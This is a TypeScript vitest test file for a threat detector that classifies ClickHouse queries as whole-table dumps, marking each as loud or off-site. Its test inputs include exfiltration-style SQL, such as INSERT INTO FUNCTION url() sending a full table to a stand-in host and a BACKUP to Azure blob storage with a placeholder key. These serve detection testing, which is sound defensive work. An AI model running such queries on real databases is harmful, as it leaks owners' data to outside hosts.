import { describe, expect, it } from 'vitest';
import { clickhouseDumpRead } from '#sidecar/threats/clickhouse-dump-read.ts';

describe('clickhouse-dump-read', () => {
  it('reads a whole SELECT, loud when its rows go to a file or in a file format, not in a format for people', () => {
    expect(clickhouseDumpRead('SELECT * FROM t FORMAT RowBinary')).toEqual({
      kind: 'table',
      table: 't',
      how: 'SELECT * … FORMAT RowBinary',
      loud: true,
      offSite: false,
    });
    expect(clickhouseDumpRead('SELECT * FROM t FORMAT PrettyCompactMonoBlock')).toMatchObject({
      how: 'SELECT *',
      loud: false,
    });
    expect(clickhouseDumpRead('SELECT * FROM t')).toMatchObject({ how: 'SELECT *', loud: false });
  });

  it('reads BACKUP: what, the engine and its first argument; off site unless Disk, File or Memory', () => {
    expect(
      clickhouseDumpRead(
        "BACKUP ASYNC TEMPORARY TABLE tmp TO AzureBlobStorage('DefaultEndpointsProtocol=https;AccountName=x;AccountKey=c2VjcmV0;EndpointSuffix=core.windows.net', 'c', 'p')",
      ),
    ).toEqual({
      kind: 'backup',
      what: 'TEMPORARY TABLE tmp',
      engine: 'AzureBlobStorage',
      place: 'DefaultEndpointsProtocol=https;AccountName=x;EndpointSuffix=core.windows.net',
      offSite: true,
    });
    expect(clickhouseDumpRead("BACKUP TABLE t AS t2 TO Disk('b', '1.zip')")).toMatchObject({
      engine: 'Disk',
      offSite: false,
    });
    expect(clickhouseDumpRead("backup database d to memory('m')")).toMatchObject({
      what: 'DATABASE d',
      offSite: false,
    });
    expect(clickhouseDumpRead('BACKUP TABLE t')).toBeUndefined();
    expect(clickhouseDumpRead("RESTORE TABLE t FROM S3('https://b/', 'k', 's')")).toBeUndefined();
  });

  it('reads INSERT INTO FUNCTION of a whole table, past quoted parentheses in the arguments', () => {
    expect(
      clickhouseDumpRead(
        "INSERT INTO FUNCTION url('http://u:p@x.example/a(b)?sig=1', 'CSV', 'a String') SELECT * FROM t",
      ),
    ).toEqual({
      kind: 'table',
      table: 't',
      how: 'INSERT INTO FUNCTION url (http://x.example/a(b))',
      loud: true,
      offSite: true,
    });
    for (const text of [
      "INSERT INTO FUNCTION s3('https://b/x.csv') SELECT * FROM t WHERE d = today()",
      "INSERT INTO FUNCTION s3('https://b/x.csv') VALUES (1)",
      "INSERT INTO FUNCTION null('x UInt8') SELECT * FROM t",
      "INSERT INTO FUNCTION s3('https://b/x.csv' SELECT * FROM t",
      'INSERT INTO t SELECT * FROM u',
    ])
      expect(clickhouseDumpRead(text), text).toBeUndefined();
  });
});
